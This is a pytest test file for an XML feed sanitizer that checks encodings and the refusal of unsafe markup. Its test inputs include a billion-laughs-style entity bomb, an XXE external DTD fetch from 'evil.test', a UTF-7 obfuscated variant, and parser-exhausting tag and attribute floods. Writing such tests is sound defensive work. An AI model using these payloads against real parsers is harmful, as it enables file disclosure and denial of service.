from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.errors import ProviderPayloadError
from service.providers.markup import markup

FEED = "<rss><title>Zürich “calm”</title></rss>"


def declared(encoding: str) -> str:
    return f"<?xml version='1.0' encoding='{encoding}'?>\n"


def refusal(body: bytes) -> str:
    with pytest.raises(ProviderPayloadError) as caught:
        markup("coindesk", body)

    assert caught.value.provider == "coindesk"
    return caught.value.reason


@pytest.mark.parametrize(
    "body",
    [
        FEED.encode(),
        b"\xef\xbb\xbf" + FEED.encode(),
        b" \n" + (declared("UTF-8") + FEED).encode(),
        (declared("windows-1252") + FEED).encode("cp1252"),
        (declared("utf-16") + FEED).encode("utf-16"),
        (declared("utf-16") + FEED).encode("utf-16-le"),
        (declared("utf-16") + FEED).encode("utf-16-be"),
        (declared("iso-8859-1") + FEED).encode("cp1252").replace(b"iso-8859-1", b"utf-8"),
        (declared("us-ascii") + FEED).encode(),
        (declared("klingon") + FEED).encode(),
        FEED.encode("cp1252"),
    ],
    ids=[
        *("bare", "mark", "declared", "windows", "wide with mark", "wide", "wide the other way"),
        *("claims UTF-8", "claims ASCII", "claims nonsense", "claims nothing"),
    ],
)
def test_text_is_read_whatever_its_encoding_claims_to_be(body: bytes) -> None:
    """Marks and declarations are believed as far as the bytes agree, and gone from what is returned."""
    assert markup("coindesk", body) == FEED


@pytest.mark.parametrize(
    "body",
    [
        b"<!DOCTYPE html><html></html>",
        b"\xef\xbb\xbf \n<!doctype HTML>",
        b"<html lang='en'>",
        b"<?xml version='1.0'?><!DOCTYPE html PUBLIC '-//W3C//DTD XHTML 1.0 Strict//EN' 'x'><html/>",
    ],
)
def test_a_page_is_named_as_such(body: bytes) -> None:
    """A dead feed often answers 200 with a page for people."""
    assert refusal(body) == "HTML where XML was expected"


BOMB = "<!DOCTYPE x [<!ENTITY a 'aa'><!ENTITY b '&a;&a;'>]><rss>&b;</rss>"


@pytest.mark.parametrize(
    "body",
    [
        BOMB.encode(),
        BOMB.lower().encode(),
        BOMB.encode("utf-16"),
        BOMB.encode("utf-16-be"),
        (declared("utf-7") + BOMB).encode(),
        b"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://evil.test/x.dtd'> %p;]><rss/>",
    ],
)
def test_entities_are_refused_unread(body: bytes) -> None:
    """A few lines of them can stand for gigabytes, or for somebody's files."""
    assert refusal(body) == "XML with entity declarations"


ATTRIBUTES = "<!DOCTYPE rss [<!ATTLIST a b CDATA 'c'>]><rss/>"


@pytest.mark.parametrize(
    "body", [ATTRIBUTES.encode(), ATTRIBUTES.lower().encode(), b"<!-- x -->" + ATTRIBUTES.encode()]
)
def test_attributes_are_not_given_to_every_tag(body: bytes) -> None:
    """A definition of a few hundred of them would come with each of thousands of tags."""
    assert refusal(body) == "XML with attribute declarations"


def crowded(count: int, between: str = " ", quote: str = "'") -> bytes:
    return ("<a" + "".join(f"{between}x{n} = {quote}>{quote}" for n in range(count)) + "/>").encode()


@pytest.mark.parametrize(("between", "quote"), [(" ", "'"), ("\n\t ", '"')])
def test_too_many_attributes_are_refused(between: str, quote: str) -> None:
    """Some thousands in one tag would keep a parser busy for minutes."""
    assert markup("coindesk", b"<rss>" + crowded(300, between, quote))
    for start in (b"<rss>", b"<!DOCTYPE rss what?><rss>", b"<rss></wrong>"):
        assert refusal(start + crowded(301, between, quote)) == "XML with more than 300 attributes in a tag"


def test_attributes_of_many_tags_are_no_crowd() -> None:
    """Whole articles have thousands of them."""
    assert markup("coindesk", b"<rss>" + b"<img src='x' alt='y'/>" * 5_000)


def test_too_many_namespaces_are_refused() -> None:
    """By their different prefixes: the same one may be declared as often as there are tags."""
    spaces = [f"<a xmlns:n{n} = 'u'/>" for n in range(101)]

    assert markup("coindesk", ("<rss>" + "".join(spaces[:100] * 20)).encode())
    assert refusal(("<rss>" + "".join(spaces)).encode()) == "XML with more than 100 namespaces"


def test_an_encoding_cannot_hide_what_is_refused() -> None:
    """A declared encoding in which `<` is written otherwise is not followed, so nothing is found later either."""
    hidden = "<?xml version='1.0' encoding='utf-7'?>" + BOMB.replace("<", "+ADw-")

    assert refusal(hidden.encode()) == "no markup where XML was expected"


@pytest.mark.parametrize("body", [b"", b" \n", b"{}", b'[{"title": "x"}]', b"404", b"\x1f\x8b\x08", b"\xff\xfe\x00"])
def test_what_is_no_markup_is_refused(body: bytes) -> None:
    """JSON, texts and bytes without meaning are no feed."""
    assert refusal(body) == "no markup where XML was expected"


def test_too_many_tags_are_refused() -> None:
    """What would keep a parser busy for minutes is not given to it."""
    assert markup("coindesk", b"<a>" * 60_000)
    assert refusal(b"<a>" * 60_001) == "XML with more than 60000 tags"


@given(st.binary(max_size=200) | st.binary(max_size=100).map(lambda end: b"<?xml encoding='utf-8'" + end))
def test_any_bytes_are_text_or_refused(body: bytes) -> None:
    """No bytes get past as another exception."""
    try:
        text = markup("coindesk", body)
    except ProviderPayloadError:
        return

    assert text.startswith("<")
